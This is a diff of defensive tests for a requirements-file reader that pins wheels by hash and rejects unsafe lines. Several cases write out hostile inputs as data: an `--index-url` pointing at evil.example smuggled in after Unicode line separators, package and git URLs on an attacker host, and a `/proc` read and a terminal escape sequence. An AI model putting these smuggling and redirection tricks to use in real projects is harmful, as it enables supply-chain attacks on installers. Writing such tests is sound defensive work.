@@ -120,6 +120,45 @@ describe("requirements files", () => {
     expect(JSON.stringify(found.identity)).not.toMatch(/secret|tok@/);
   });
 
+  it("measure a wheel that a URL of this machine names, and give the installer the URL", async () => {
+    const folder = filesIn({ "fig-1-py3-none-any.whl": "bytes" });
+    const url = `file://${folder}/fig-1-py3-none-any.whl`;
+    const found = await read({ "r.txt": `Fig[x] @ ${url} ; python_version > "3"\n` }, { mayChooseIndex: false });
+    const digest = createHash("sha256").update("bytes").digest("hex");
+    expect(found.lines).toEqual([`fig[x] @ ${url} ; python_version > "3"`]);
+    expect(found.identity.requirements).toEqual([
+      `fig[x] @ fig-1-py3-none-any.whl sha256:${digest} ; python_version > "3"`,
+    ]);
+  });
+
+  // Python's `splitlines`, by which pip reads: each of these would begin a line of the attacker's choice.
+  it.each(["\u001c", "\u001d", "\u001e", "\u0085", "\u000b", "\u000c", "\u2028", "\u2029"])(
+    "hand an installer no line end that is none here: %j",
+    async (lineEnd) => {
+      const text = `fig ; python_version > "3"${lineEnd}--index-url=https://evil.example/\n`;
+      const lines = await read({ "r.txt": text }, { mayChooseIndex: false }).then(
+        (found) => found.lines,
+        (error: unknown) => {
+          if (!isVenvHostError(error) || error.code !== "REQUIREMENTS_INVALID") throw error;
+          return [];
+        },
+      );
+      const program = "import json, sys; print(len(json.loads(sys.argv[1]).splitlines()))";
+      const count = execFileSync(python, ["-c", program, JSON.stringify(lines.join("\n"))], { encoding: "utf8" });
+      expect(Number(count)).toBe(lines.length);
+    },
+  );
+
+  it("stop reading a file that has no end, and at an abort", async () => {
+    // The kernel says that it is empty; there are gigabytes of it.
+    expect(await fault(read({ "r.txt": "/proc/self/pagemap\n" }))).toMatch(/more than 536870912 bytes|cannot be read/);
+    const reason = new Error("no longer wanted");
+    const ending = new AbortController();
+    const reading = read({ "r.txt": "/proc/self/pagemap\n" }, { signal: ending.signal });
+    setImmediate(() => ending.abort(reason));
+    await expect(reading).rejects.toBe(reason);
+  });
+
   const many = Object.fromEntries(
     Array.from({ length: 12 }, (_, index) => [index === 0 ? "r.txt" : `${index}.txt`, `-r ${index + 1}.txt\n`]),
   );
@@ -163,6 +202,35 @@ describe("requirements files", () => {
       message: /r\.txt:1: --index-url is not allowed/,
       more: { mayChooseIndex: false },
     },
+    {
+      name: "name a URL where the store chooses the index",
+      files: { "r.txt": "fig @ https://evil.example/fig-1-py3-none-any.whl\n" },
+      message: /r\.txt:1: says itself where it comes from/,
+      more: { mayChooseIndex: false },
+    },
+    {
+      name: "name a repository where the store chooses the index",
+      files: { "r.txt": "fig @ git+https://evil.example/fig\n" },
+      message: /r\.txt:1: says itself where it comes from/,
+      more: { mayChooseIndex: false },
+    },
+    { name: "name what is no URL", files: { "r.txt": "fig @ ../fig\n" }, message: /r\.txt:1: is no requirement/ },
+    {
+      name: "name a folder by a URL",
+      files: { "r.txt": "fig @ file:///tmp\n" },
+      message: /r\.txt:1: names \/tmp, which is no file/,
+    },
+    {
+      name: "give a file a condition, which would be passed over",
+      files: { "r.txt": 'fig-1.whl ; python_version < "3"\n', "fig-1.whl": "" },
+      message: /r\.txt:1: gives a file a condition/,
+    },
+    {
+      name: "name a file with extras, which an index might have by that name",
+      files: { "r.txt": "fig-1.whl[x]\n", "fig-1.whl": "" },
+      message: /r\.txt:1: names the file .*fig-1\.whl\[x\], which cannot be read/,
+    },
+    { name: "hold a control character", files: { "r.txt": "fig\u001b[2J\n" }, message: /r\.txt:1: holds a control/ },
     {
       name: "lack a hash that is required",
       files: { "r.txt": "fig==1\n" },
